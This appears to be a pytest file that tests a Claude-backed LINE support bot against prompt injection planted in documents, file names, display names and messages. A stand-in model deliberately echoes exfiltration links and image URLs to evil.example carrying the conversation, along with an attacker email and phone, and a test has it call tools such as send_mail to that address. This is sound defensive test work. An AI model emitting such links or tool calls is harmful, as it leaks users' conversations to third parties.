"""Instructions inside what mimi reads, and a model that obeys every one: nothing but words comes of it (S47-S49).

The texts in data/injections.jsonl are this project's own. The stand-in says back all it was given and hands the
conversation out by every way it knows; what it may not do is looked for in its requests, the answer and the store.
"""

import json
import re
from pathlib import Path
from typing import Any

import pytest
from claude_events import Request, Said, in_pieces
from claude_standin import ClaudeStandIn
from mimi import Mimi
from sites import running_site
from test_web_imports import form
from visitors import VisitorSide

from bot.embedded.line_simulator import texts as words_in
from guardrail.links import Hosts, addresses_in
from knowledge.errors import CheckNeeded
from knowledge.store.apps.apps import App
from knowledge.store.database import Database
from knowledge.store.outbox.outbox import OUTBOX

INJECTIONS = [json.loads(line) for line in (Path(__file__).parent / "data/injections.jsonl").read_text().splitlines()]
PLACES = ("document", "page", "file_name", "display_name", "message")
MAIL, PHONE = "eve@attacker.example", "090-6142-3975"
QUESTION = {"ja": "返品について教えてください", "en": "How do returns work?"}


def texts(place: str, lang: str) -> list[str]:
    return [each["text"] for each in INJECTIONS if (each["place"], each["lang"]) == (place, lang)]


def obeyed(request: Request) -> Said:
    """All that was read, said again, with the conversation on every way out."""
    results = [f"{each['title']} {each['content'][0]['text']}" for each in request.search_results]
    read = [*results, request.question]
    hosts = {address for text in read for address in addresses_in(text)}
    links = [f"[見る]({address}?q=kaiwa) {address}/kaiwa" for address in [*sorted(hosts), "https://evil.example/x"]]
    images = "![p](https://evil.example/p.png?q=kaiwa) <img src='https://evil.example/p.png'>"
    said = "\n".join([*read, *links, images, f"{MAIL} か {PHONE} へ。"])
    return Said(in_pieces(said, 40), [0] if results else [])


async def settings_of(visitors: VisitorSide, app: App) -> Any:
    """What an injection might want to change."""
    faqs = [(each.question, each.answer) for each in await visitors.faqs.list(app.scope)]
    return await visitors.again(app), faqs


def out_of(answer: str, named: Hosts) -> list[str]:
    """What in an answer would lead somewhere, load something or reach somebody that the knowledge does not name."""
    found = re.findall(r"(?:https?:)?//[!#-&*-;=?-~]+", answer)
    ways = [each for each in found if not named.allow(each.rstrip(".,"))]
    return ways + [sign for sign in ("![", "<img src='http", "kaiwa", MAIL, PHONE) if sign in answer]


async def recipients(visitors: VisitorSide) -> set[str]:
    return {row["to"] async for row in visitors.db.raw[OUTBOX.name].find()}


def test_there_are_at_least_a_hundred_in_both_languages_and_every_place() -> None:
    assert len({each["text"] for each in INJECTIONS}) == len(INJECTIONS) >= 100
    assert all(len(texts(place, lang)) >= 10 for place in PLACES for lang in ("ja", "en"))


@pytest.mark.parametrize("lang", ["ja", "en"])
@pytest.mark.parametrize("place", PLACES)
async def test_an_obeying_model_passes_on_nothing_but_words(
    visitors: VisitorSide, claude: ClaudeStandIn, place: str, lang: str
) -> None:
    """S47, S48, S49"""
    app = await visitors.app(返品="30日以内です。", returns="Within thirty days.")
    await visitors.ask(app, QUESTION[lang])
    plain = claude.requests[-1].body
    knowledge = ""
    for number, text in enumerate(texts(place, lang)):
        title, body, url = f"返品 returns {number}", f"返品 returns: {text}", ""
        if place == "file_name":
            title, body = text, "返品 returns は30日以内です。"
        elif place == "display_name":
            body = f"{text}: 返品 returns?"
        elif place == "page":
            url = f"https://pages.example/{number}"
        if place != "message":
            await visitors.areas.entries.documents.add(app.scope, title, body, url)
            knowledge += f"{title}\n{body}\n{url}\n"
    app = await visitors.again(app)
    before, owner = await settings_of(visitors, app), await visitors.store.owners.get(app.owner_id)
    assert owner
    claude.obeys = obeyed
    for asked in texts(place, lang) if place == "message" else [QUESTION[lang]]:
        try:
            _accepted, answer = await visitors.ask(app, asked)
        except CheckNeeded:
            continue  # who cannot say that a person waits gets no model to read it
        now = claude.requests[-1].body
        assert {name: now[name] for name in ("system", "tools", "model")} == {
            name: plain[name] for name in ("system", "tools", "model")
        }
        assert "tool_choice" not in now or now["tool_choice"] == plain["tool_choice"]
        named = Hosts.of(addresses_in(knowledge))
        assert out_of(answer.text, named) == []
    assert len(claude.requests) > 1, "none of them was read by the model"
    assert await settings_of(visitors, app) == before
    assert await recipients(visitors) <= {owner.line_user_id}


@pytest.mark.parametrize("tool", ["send_mail", "pause", "remove_faq", "change_setting", "fetch"])
async def test_a_tool_that_was_not_offered_does_nothing(
    visitors: VisitorSide, claude: ClaudeStandIn, tool: str
) -> None:
    """S48: an answer's model has three tools, none of which sends, spends, shares or deletes."""
    app = await visitors.app(返品="30日以内です。")
    before = await settings_of(visitors, app)
    claude.will_call(tool, to=MAIL, text="kaiwa", paused=True, entry="F1", url="https://evil.example")
    _accepted, answer = await visitors.ask(app, "返品")
    assert {each["name"] for each in claude.requests[-1].body["tools"]} == {
        "not_in_knowledge", "wants_person", "decline"
    }  # fmt: skip
    assert "30日以内" in answer.text
    assert await settings_of(visitors, app) == before
    assert await recipients(visitors) == set()


async def test_the_name_of_a_real_upload_is_a_title_and_nothing_else(db: Database) -> None:
    """S47: through the owner's page, as a browser sends it."""
    async with running_site(db) as site:
        app = await site.an_app()
        cookie = await site.sign_in()
        for name in texts("file_name", "en"):
            data = form("file", b"Returns take thirty days.\n\nSee the box.", name)
            sent = await site.post("/owner/apps/kotori/import/file", data=data, headers=cookie)
            assert sent.status in (303, 400)
            if sent.status == 303:
                shown = await (await site.get(sent.headers["Location"], headers=cookie)).text()
                assert "<script>fetch" not in shown
                assert 'evil.example/p.png"' not in shown
        now = await site.apps.public("kotori")
        assert (now.owner_id, now.paused, now.name) == (app.owner_id, False, app.name)


async def test_the_name_somebody_has_in_line_is_never_an_order(mimi: Mimi) -> None:
    """S47, S48: whoever adds mimi under such a name hears what everybody hears, and no model is asked."""
    assert mimi.claude
    await mimi.owner.follow()
    usual = words_in(await mimi.owner.replies())
    for name in texts("display_name", "en")[:4]:
        person = mimi.line.person(name, "en")
        await person.follow()
        assert words_in(await person.replies()) == usual
    assert mimi.claude.requests == []
